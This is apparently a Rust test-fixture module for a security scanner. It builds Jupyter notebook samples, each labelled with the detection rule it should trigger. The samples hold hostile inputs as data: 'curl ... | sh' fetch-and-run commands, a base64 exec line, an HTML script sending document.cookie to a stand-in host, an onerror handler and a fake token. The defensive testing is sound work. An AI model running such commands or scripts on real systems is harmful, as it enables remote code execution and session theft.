//! Notebooks: cells, magics, saved outputs.

use assay_core::Format;

use super::Sample;

/// A notebook with one cell of code and one saved output of HTML.
fn notebook(name: &'static str, code: &str, html: &str, rules: &'static [&'static str]) -> Sample {
    let output = format!(r#"{{"output_type": "display_data", "data": {{"text/html": ["{html}"]}}}}"#);
    let cell = format!(r#"{{"cell_type": "code", "source": "{code}", "outputs": [{output}]}}"#);
    let metadata = r#"{"language_info": {"name": "python"}}"#;
    let text = format!(r#"{{"cells": [{cell}], "metadata": {metadata}, "nbformat": 4}}"#);
    Sample { name, file: "x.ipynb", format: Format::Notebook, bytes: text.into_bytes(), rules }
}

pub(crate) fn samples() -> Vec<Sample> {
    let decoded = r"import base64\nexec(base64.b64decode('eA=='))";
    let shell = r"%%bash\ncurl http://192.0.2.1/x | sh";
    vec![
        notebook("preparing", r"!pip install -q torch\nimport torch\ntorch.zeros(1)", "<table></table>", &[]),
        notebook("decoded", decoded, "", &["python-obfuscated-code"]),
        notebook("a command", r"!curl http://192.0.2.1/x | sh", "", &["python-code-when-used"]),
        notebook("a shell script", shell, "", &["notebook-shell-command"]),
        notebook(
            "a cookie",
            "",
            "<script>fetch('//x/?' + document.cookie)</script>",
            &["notebook-active-output"],
        ),
        notebook("a token", "token = 'hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567'", "", &["config-secret"]),
        notebook("a picture", "x = 1", "<img src=x onerror=f()>", &["notebook-active-output"]),
    ]
}
